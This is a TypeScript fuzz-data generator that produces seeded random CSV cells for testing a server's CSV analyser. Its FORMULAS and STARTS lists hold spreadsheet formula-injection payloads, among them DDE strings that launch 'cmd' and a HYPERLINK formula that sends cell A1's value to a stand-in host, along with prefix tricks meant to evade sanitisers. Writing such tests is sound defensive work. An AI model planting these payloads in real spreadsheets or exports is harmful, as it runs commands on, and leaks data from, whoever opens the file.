import type { Cell } from '../../packages/server/src/analyse/csv.ts'

/** Pseudo-random numbers below 1, the same for a seed. Source: mulberry32, Tommy Ettinger. */
export function randomOf(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

/**
 * Rows of cells such as people write, and such as somebody writes who wants a spreadsheet to run them: formulas behind blanks and line
 * breaks, quotes, separators, what looks like a number, a date or a truth, long digits, all of Unicode that a document can hold.
 */
export function cellsOf(seed: number, rows: number, columns: number): Cell[][] {
  const random = randomOf(seed)
  const one = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)]!
  const some = (all: readonly string[], most: number): string =>
    Array.from({ length: Math.floor(random() * (most + 1)) }, () => one(all)).join('')
  const text = (): string => {
    if (random() < 0.4) return `${some(BLANKS, 2)}${one(STARTS)}${one(FORMULAS)}${some(PARTS, 2)}`
    if (random() < 0.3) return `${some(BLANKS, 1)}${one(LOOKALIKES)}${some(BLANKS, 1)}`
    return some(PARTS, 6)
  }
  const number = (): number => (random() < 0.5 ? Math.floor(random() * 1e6) - 5e5 : Math.round(random() * 1e6) / 1e4)
  return Array.from({ length: rows }, () => Array.from({ length: columns }, () => (random() < 0.1 ? number() : text())))
}

const BLANKS = [' ', '  ', '\u00A0', '\n', '\u3000']
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\n=', "'=", '"=', ';=', ',=']
const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://example.com?"&A1,"here")',
  'WEBSERVICE("http://example.com")',
  'A1',
  "cmd|'/c calc'!A0",
  'DDE("cmd";"/c calc";"x")',
  'IMPORTXML("http://example.com","//a")',
  '2',
  '49',
  'NOW()',
  '{1;2}',
]
const LOOKALIKES = [
  '007',
  '1e5',
  '1E400',
  '3.14',
  '1,5',
  '1.000,00',
  '-5',
  '+49 170 1234567',
  '12345678901234567890',
  '0x1F',
  '½',
  '2026-11-23',
  '23.11.2026',
  '11/23',
  '1-2',
  '12:30',
  '25:61',
  'TRUE',
  'false',
  'NULL',
  '50 %',
  '€ 5',
  '$1',
  '#REF!',
  '#N/A',
  'NaN',
]
const PARTS = [
  'slow',
  'It was "slow"',
  '""',
  '"',
  "'",
  ',',
  ';',
  '\t',
  '\n',
  ' ',
  '|',
  '\\',
  '/',
  'ä',
  'ß',
  'ç',
  'أهلا',
  'שלום',
  '日本語',
  '🐌',
  '👩‍👩‍👧',
  'e\u0301',
  '\u200F',
  '\u2028',
  '\uFEFF',
  '<b>',
  '&amp;',
  ']]>',
  '<!--',
  '%s',
  '$',
  '{}',
  'sep=;',
  '=',
  '+',
  '-',
  '@',
]
